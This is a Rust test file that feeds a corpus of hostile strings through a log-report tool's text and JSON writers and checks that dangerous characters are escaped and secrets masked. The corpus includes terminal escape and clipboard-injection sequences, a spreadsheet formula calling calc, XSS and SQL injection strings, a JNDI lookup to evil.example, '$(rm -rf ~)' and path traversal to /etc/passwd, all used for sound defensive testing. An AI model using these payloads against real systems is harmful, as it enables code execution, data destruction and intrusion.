//! One corpus of hostile strings through both formats, each then read by its own reader.

use std::collections::BTreeSet;

use super::{json, text};
use crate::escape::{mask, visible};
use crate::record::Zone;
use crate::summary::{Body, Group, Look, Report, Scalar, Section, Sheet, Table, Value};

/// What no output may hold as itself; line ends of the output are taken off before.
fn is_dangerous(c: char) -> bool {
    c.is_control()
        || matches!(c, '\u{61c}' | '\u{200e}' | '\u{200f}' | '\u{feff}' | '\u{ad}')
        || ('\u{202a}'..='\u{202e}').contains(&c)
        || ('\u{2066}'..='\u{2069}').contains(&c)
        || ('\u{2028}'..='\u{2029}').contains(&c)
        || ('\u{200b}'..='\u{200d}').contains(&c)
        || ('\u{e0000}'..='\u{e007f}').contains(&c)
}

fn corpus() -> Vec<String> {
    let marks = "\u{61c}\u{200e}\u{200f}\u{202a}\u{202b}\u{202c}\u{202d}\u{202e}\u{2066}\u{2067}\
                 \u{2068}\u{2069}\u{2028}\u{2029}\u{feff}\u{200b}\u{200c}\u{200d}\u{2060}\u{ad}\
                 \u{180e}\u{fff9}\u{fffa}\u{fffb}\u{e0001}\u{e0041}";
    let single = ('\0'..='\x1f').chain('\x7f'..='\u{9f}').chain(marks.chars());
    let attacks = [
        "\x1b[2J\x1b[H",
        "\x1b[31mred\x1b[0m",
        "\x1b]0;title\x07",
        "\x1b]8;;http://evil.example/\x1b\\click\x1b]8;;\x1b\\",
        "\x1b]52;c;cm0gLXJmIH4=\x07",
        "\x1bP+q544e\x1b\\",
        "\x1bc",
        "\u{9b}31m",
        "\u{9d}0;title\u{9c}",
        "\r  INFO      :      0",
        "a\x08\x08b",
        "abc\n  ERROR     :   9999",
        "user\u{202e}gnp.exe",
        "\u{2066}reversed\u{2069}",
        "admin\u{200b}",
        "=cmd|' /C calc'!A0",
        "+1+1",
        "@SUM(A1)",
        "\t=1+1",
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "</script><!--",
        "<!channel> <@U1> *bold*",
        "x\r\nBcc: all@example.com",
        "\"} 1\nforged_metric{x=\"",
        "\",\"forged\":true,\"x\":\"",
        "\\",
        "\\u0000",
        "\\\"",
        "\"",
        "'; DROP TABLE logs; --",
        "${jndi:ldap://evil.example/a}",
        "{{7*7}}",
        "%s%n%x",
        "$(rm -rf ~)",
        "`id`",
        "../../etc/passwd",
        "token=hunter2",
        "wss://host/ws?token=hunter2&client_id=a",
        "{\"api_key\": \"hunter2\"}",
        "Authorization: Bearer hunter2",
        "X-API-Key: hunter2",
        "password='hunter2 hunter2'",
        "client_secret=hunter2;",
        "token=\x1b[2Jhunter2",
        "设备已连接",
        "👨‍👩‍👧 ❤️",
        "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳",
        "ﷺ مرحبا",
        "\u{fffd}\u{ffff}\u{10ffff}",
        "",
        " ",
        "null",
        "(other)",
        "📊 Log Analysis Report",
        "a.b.c",
    ];
    let mut corpus: Vec<String> = single.map(|c| format!("before{c}after")).collect();
    corpus.extend(attacks.map(str::to_owned));
    corpus.push("x".repeat(10_000));
    corpus.push(marks.repeat(3));
    corpus
}

const COLUMNS: &[&str] = &["message", "level", "records"];

/// The strings in every place where a report can hold text.
fn report(corpus: &[String]) -> Report {
    let looks = [
        Look::Ranking { width: 10, unit: " events" },
        Look::Messages,
        Look::Hours,
        Look::Timeline,
        Look::Grid,
    ];
    let tables = looks.map(|look| {
        let row = |s: &String| vec![Value::text(s), Value::text(s), Value::Int(1)];
        let rows = corpus.iter().map(row).collect();
        Table { rows, ..Table::new("table", "Table", look, COLUMNS) }
    });
    let scalars = |s: &String| vec![Scalar { name: "text", value: Value::text(s) }];
    let groups = |with: fn(&str) -> String| {
        let group = |s: &String| Group {
            key: vec![(with(s), Value::text(s))],
            body: Body::scalars(scalars(s)),
        };
        corpus.iter().map(group).collect::<Vec<_>>()
    };
    let figures = Body::Figures { scalars: scalars(&corpus[0]), tables: tables.to_vec() };
    let grouped = |groups| Body::Groups { groups, omitted: 0, capped: false };
    let section = |name: &str, body| {
        let (name, title) = (name.to_owned(), name.to_owned());
        Section { name, title, silent: false, body, sheet: Sheet::default() }
    };
    let mut sections: Vec<_> =
        corpus.iter().map(|s| section(s, Body::scalars(scalars(s)))).collect();
    sections.push(section("tables", figures));
    sections.push(section("groups", grouped(groups(|_| "key".to_owned()))));
    sections.push(section("keys", grouped(groups(str::to_owned))));
    sections.push(section("windows", Body::Windows(groups(|_| "start".to_owned()))));
    Report { sections, empty: false }
}

#[test]
fn the_corpus_is_large_and_hostile() {
    let corpus = corpus();
    assert!(corpus.len() > 140, "{}", corpus.len());
    assert_eq!(corpus.iter().collect::<BTreeSet<_>>().len(), corpus.len());
}

#[test]
fn text_shows_nothing_dangerous() {
    let style = text::Style { width: 100, color: false, zone: Zone::Utc, top: Some(usize::MAX) };
    let corpus = corpus();
    let mut out = Vec::new();
    text::write(&report(&corpus), &style, &mut out).unwrap();
    let out = String::from_utf8(out).unwrap();
    for line in out.lines() {
        assert!(!line.contains(is_dangerous), "{line:?}");
        // The names of sections are the user's own words, and are not masked.
        assert!(!line.contains("hunter2") || line.ends_with(':') || line.contains(" = "), "{line}");
    }
    let messages = corpus.len();
    assert_eq!(out.lines().filter(|line| line.starts_with("  [  1] ")).count(), messages);
}

#[test]
fn json_shows_nothing_dangerous_and_gives_everything_back() {
    let corpus = corpus();
    let mut out = Vec::new();
    json::write(&report(&corpus), &Zone::Utc, &mut out).unwrap();
    let out = String::from_utf8(out).unwrap();
    assert!(!out.lines().any(|line| line.contains(is_dangerous)));
    let read: serde_json::Value = serde_json::from_str(&out).unwrap();
    let sections = read["sections"].as_object().unwrap();
    assert_eq!(sections.len(), corpus.len() + 4);
    for (at, text) in corpus.iter().enumerate() {
        let meant = serde_json::json!(mask(text));
        assert_eq!(sections[text]["text"], meant);
        for table in ["table", "table #2", "table #3", "table #4", "table #5"] {
            assert_eq!(sections["tables"][table][at]["message"], meant);
        }
        assert_eq!(sections["groups"]["groups"][at]["by"]["key"], meant);
        assert_eq!(sections["keys"]["groups"][at]["by"][text], meant);
        assert_eq!(sections["windows"]["windows"][at]["start"], meant);
        assert_eq!(sections["windows"]["windows"][at]["text"], meant);
    }
}

#[test]
fn every_hidden_character_is_shown_as_an_escape() {
    for c in ('\0'..=char::MAX).filter(|c| is_dangerous(*c)) {
        assert!(visible(&c.to_string()).starts_with('\\'), "{c:?}");
    }
}
